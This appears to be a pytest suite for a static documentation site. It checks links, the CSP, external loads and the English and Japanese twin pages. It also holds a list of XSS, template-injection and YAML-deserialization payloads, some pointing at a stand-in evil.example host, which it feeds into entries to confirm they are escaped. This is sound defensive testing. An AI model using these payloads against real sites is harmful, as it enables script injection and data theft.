"""The built site: no link is broken, nothing loads from elsewhere, formulas are drawn, both languages have it all."""

import re
from html import escape as html_escape
from pathlib import Path
from urllib.parse import unquote, urldefrag, urljoin, urlsplit
from xml.etree.ElementTree import parse

import pytest

import site_hooks
from built_site import CONFIGS, ROOT, build, build_both, copy_of_the_site, once, pages, put_entries
from dangers import Seen
from llmlab.report.escape import printable
from llmlab.report.logbook import write_small_site
from llmlab.report.record import Record

pytestmark = pytest.mark.slow

JAPANESE = sorted((ROOT / "docs" / "ja").rglob("*.md"))


@pytest.fixture(scope="session")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project's site as it stands."""
    return once(tmp_path_factory, "site", lambda folder: build_both(ROOT, folder))


def read(page: Path) -> Seen:
    return Seen(page.read_text("utf-8"))


def links(page: Seen) -> set[str]:
    return {value for _, name, value in page.attributes if name in {"href", "src"}}


def broken(site: Path) -> list[tuple[str, str]]:
    found = {page.relative_to(site).as_posix(): read(page) for page in site.rglob("*.html")}
    targets = {
        name: {value for tag, key, value in page.attributes if key == "id" or (tag, key) == ("a", "name")}
        for name, page in found.items()
    }
    lost = []
    for name, page in found.items():
        for link in links(page):
            address, fragment = urldefrag(urljoin(f"http://x/{name}", link))
            if not address.startswith("http://x/"):
                continue
            target = unquote(urlsplit(address).path).lstrip("/") or "index.html"
            there = target in found or (site / target).is_file()
            anchored = target not in found or not fragment or unquote(fragment) in targets[target]
            twin = target.startswith("ja/") and not (site / "ja").is_dir()  # the Japanese site is built apart
            if name != "404.html" and not twin and not (there and anchored):
                lost.append((name, link))
    return sorted(lost)


def test_no_link_and_no_anchor_of_the_site_is_broken(site: Path) -> None:
    """Each link, picture, script and style within the site is there, and so is each place in a page that is linked."""
    assert broken(site) == []


def test_broken_links_would_be_found(tmp_path: Path) -> None:
    """What looks for broken links finds a missing page, a missing anchor and a missing picture, and nothing else."""
    (tmp_path / "log").mkdir()
    (tmp_path / "index.html").write_text('<h1 id="a b">x</h1><a href="log/x.html#no">x</a><img src="no.svg">', "utf-8")
    good = '<p id="yes"><a href="#yes">x</a><a href="../index.html#a%20b">x</a><a href="https://example.org">x</a>'
    (tmp_path / "log" / "x.html").write_text(f'{good}<a href="no.html">x</a>', "utf-8")

    assert broken(tmp_path) == [("index.html", "log/x.html#no"), ("index.html", "no.svg"), ("log/x.html", "no.html")]


def test_the_feed_leads_to_the_entries(site: Path) -> None:
    atom = "{http://www.w3.org/2005/Atom}"
    feed = parse(site / "log" / "feed.xml")  # noqa: S314 - our own document
    links = [one.get("href", "") for one in feed.iterfind(f"{atom}entry/{atom}link")]

    records = [Record.from_json(path.read_text("utf-8")) for path in (ROOT / "docs/log/posts").glob("*/record.json")]
    assert len(links) == min(50, sum(not record.superseded_by for record in records))
    assert all((site / "log" / link).is_file() for link in links)


def test_every_entry_is_in_the_comparison_and_in_the_index_by_chapter(site: Path) -> None:
    entries = {folder.name for folder in (ROOT / "docs" / "log" / "posts").iterdir()}
    for page in ("compare", "chapters"):
        assert {f"{name}.html" for name in entries} <= links(read(site / "log" / f"{page}.html"))


def test_the_site_loads_nothing_from_elsewhere(site: Path) -> None:
    """No page and no style sheet names a resource on another host."""
    loads = {"src", "srcset", "poster", "data", "background", "style"}
    outside = [
        (tag, name, value)
        for page in site.rglob("*.html")
        for tag, name, value in read(page).attributes
        if (name in loads or (tag, name) == ("link", "href")) and re.search(r"https?:|(^|[\s('\"])//", value)
    ]
    for sheet in site.rglob("*.css"):
        outside += re.findall(r"@import[^;]*|url\(\s*['\"]?(?:https?:|//)[^)]*", sheet.read_text("utf-8"))

    assert outside == []


def test_every_page_carries_its_policy_before_anything_else(site: Path) -> None:
    """Each page opens with a policy that allows itself and the theme's own inline scripts by their hash."""
    for page in site.rglob("*.html"):
        head = page.read_text("utf-8").split("<head>", 1)[1]
        policy = re.match(r'\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">', head)
        assert policy, page
        rules = dict(rule.strip().split(" ", 1) for rule in policy[1].split(";"))

        assert rules["default-src"] == "'self'"
        assert rules["object-src"] == rules["frame-src"] == rules["base-uri"] == "'none'"
        assert re.fullmatch(r"'self'( 'sha256-[A-Za-z0-9+/=]{44}')+", rules["script-src"])
        assert "http" not in policy[1]


def test_the_policy_allows_no_script_of_an_article() -> None:
    security = site_hooks.hook("security")
    theirs = "<article><script>bad()</script></article><script>bad()</script><article></article>"

    assert security.policy(f"<script>a()</script>{theirs}").count("sha256") == 1
    assert security.policy(f"{theirs}<script>b()</script>").count("sha256") == 1


@pytest.mark.parametrize("page", ["study/phase1.html", "study/phase1-2.html", "glossary.html", "index.html"])
def test_formulas_are_drawn_without_a_script(site: Path, page: str) -> None:
    """Each formula is MathML in the page itself; no dollar sign and no TeX is left over."""
    text = (site / page).read_text("utf-8")

    assert "<math " in text
    assert "arithmatex" not in text
    assert not re.search(r"\\(frac|sum|partial|cdot|text)\b", text)
    assert "$$" not in Seen(text).words


def test_the_search_index_finds_the_chapters(site: Path) -> None:
    addresses = {name.removeprefix("search ") for name in pages(site) if name.startswith("search ")}

    assert {"study/phase1.html", "study/phase1-2.html", "reference/model.html", "glossary.html"} <= addresses


def test_no_page_is_long_for_a_small_machine(site: Path) -> None:
    """A page is at most 300 kB of HTML before it is compressed: a Pi has to take it apart after that."""
    weights = {str(page.relative_to(site)): page.stat().st_size for page in site.rglob("*.html")}

    assert {name: weight for name, weight in weights.items() if weight > 300_000} == {}


def test_both_sites_have_the_same_pages(site: Path) -> None:
    """Every page has its twin in the other language, at the same address, and links to it."""
    everything = {str(page.relative_to(site)) for page in site.rglob("*.html")}
    japanese = {name for name in everything if name.startswith("ja/")}

    assert {f"ja/{name}" for name in everything - japanese} == japanese
    for name in everything - japanese - {"404.html"}:
        up = "../" * name.count("/") or "./"
        assert f'href="{up}ja/{name}" hreflang="ja"' in (site / name).read_text("utf-8")
        assert f'href="{up}../{name}" hreflang="en"' in (site / "ja" / name).read_text("utf-8")


def test_a_page_of_the_japanese_site_is_japanese_or_says_that_it_is_not(site: Path) -> None:
    """The site's language is Japanese; what is not translated is marked as English, and nothing else is."""
    translated = {page.relative_to(ROOT / "docs" / "ja").with_suffix(".html") for page in JAPANESE}
    for page in (ROOT / "docs").rglob("*.md"):
        name = page.relative_to(ROOT / "docs").with_suffix(".html")
        if name.parts[0] != "ja" and "posts" not in name.parts:
            text = (site / "ja" / name).read_text("utf-8")
            assert '<html lang="ja"' in text
            assert ('<div lang="en">' in text) == (name not in translated)
    posts = [page.read_text("utf-8") for page in (site / "ja" / "log").glob("2026-*.html")]
    assert posts
    assert all("<h2 id=" in post and "再現" in post for post in posts)


# ---- words of users: none of them acts there, none is swallowed, and every one can be read --------------------------


PAYLOADS = [
    "::: llmlab.settings", "<script>alert(1)</script>", "</p></article><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea></style></script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>", "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>", "<form action=https://evil.example><input name=x></form>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>", "<style>body { display: none }</style>",
    "<a href=javascript:alert(1)>x</a>", "<scr<script>ipt>alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1) \"title\")",
    "![x](https://evil.example/x.png)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x][y]\n\n[y]: javascript:alert(1)", "<javascript:alert(1)>", "<https://evil.example>", "https://evil.example/x",
    "x{: onmouseover=alert(1) }", "{: onmouseover=alert(1) .x #y }", "# heading {: onclick=alert(1) }",
    "```\n<script>alert(1)</script>\n```", "````\n```\n<script>alert(1)</script>", "~~~ {onclick=alert(1)}\nx\n~~~",
    "`</code><script>alert(1)</script>`", '--8<-- "mkdocs.yml"', "--8<-- \"../../mkdocs.yml\"\n",
    "{{ config.site_name }} {{ 7 * 7 }}", "{% include 'main.html' %}", "---\ntitle: stolen\ntags: [x]\n---",
    "title: !!python/object/apply:os.system ['true']", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;img src=x onerror=alert(1)&gt;", "<!-- notes:end -->\n\n<script>alert(1)</script>",
    "<!-- more -->\n\n<script>alert(1)</script>", "<!-- notes:begin\n-->",
    "!!! danger \"<script>alert(1)</script>\"\n    x", "??? x\n    <script>alert(1)</script>", '=== "x"\n    y',
    "$$\\href{javascript:alert(1)}{x}$$", '<span class="arithmatex">\\(\\href{javascript:alert(1)}{x}\\)</span>',
    "| a | b |\n| - | - |\n| <script>alert(1)</script> | x |", "*[x]: <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "\x00<script>alert(1)</script>", "\u2028<script>alert(1)</script>",
]  # fmt: skip


ALARMS = [
    "<script>", "<img src=x onerror=a()>", "<a href=' java\nscript:a()'>", "<img src='data:x'>", "<p style='a:b'>"
]  # fmt: skip


@pytest.mark.parametrize("document", ALARMS)
def test_the_alarm_rings(document: str) -> None:
    """What counts dangers counts each kind of them."""
    assert Seen(document).dangers.total() == 1
    assert Seen(f"<p title='{html_escape(document)}'>{html_escape(document)}</p>").dangers.total() == 0


@pytest.fixture(scope="session", params=["project", "small", "japanese"])
def twins(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The same site twice: with entries of harmless words, and with entries of hostile ones."""

    def twin(name: str, words: list[str]) -> Path:
        def make(folder: Path) -> None:
            (write_small_site if request.param == "small" else copy_of_the_site)(folder)
            put_entries(folder, words)
            build(folder / CONFIGS[request.param == "japanese"], folder / "built")

        return once(tmp_path_factory, f"{request.param}-{name}", make) / "built"

    return twin("harmless", ["hello"] * len(PAYLOADS)), twin("hostile", PAYLOADS)


def test_no_word_of_a_user_acts_on_the_site(twins: tuple[Path, Path]) -> None:
    harmless, hostile = (pages(site) for site in twins)

    assert harmless.keys() == hostile.keys()
    added = {name: Seen(hostile[name]).dangers - Seen(harmless[name]).dangers for name in hostile}
    assert {name: found for name, found in added.items() if found} == {}


def test_every_word_of_a_user_can_be_read_on_the_site(twins: tuple[Path, Path]) -> None:
    for number, words in enumerate(PAYLOADS):
        name = f"log/2026-11-22-phase1-2-{number:08x}"
        file = next(page for page in (twins[1] / f"{name}.html", twins[1] / name / "index.html") if page.is_file())
        shown = Seen(file.read_text("utf-8")).words

        assert " ".join(printable(words).split()) in " ".join(shown.split())
        assert "use_directory_urls" not in shown


def test_no_title_of_an_entry_can_be_stolen(twins: tuple[Path, Path]) -> None:
    """Each page has one title with nothing in it that acts; of a user's words an entry's may hold a plain one."""
    harmless, hostile = (
        {str(page.relative_to(site)): re.findall(r"<title>.*?</title>", page.read_text("utf-8"), re.DOTALL)
         for page in site.rglob("*.html")}
        for site in twins
    )  # fmt: skip

    assert harmless.keys() == hostile.keys()
    assert {page for page in hostile if not re.fullmatch("<title>[^<>]*</title>", "".join(hostile[page]))} == set()
    others = {page for page in hostile if not re.match(r"log/\d{4}-", page)}
    assert {page for page in others if hostile[page] != harmless[page]} == set()
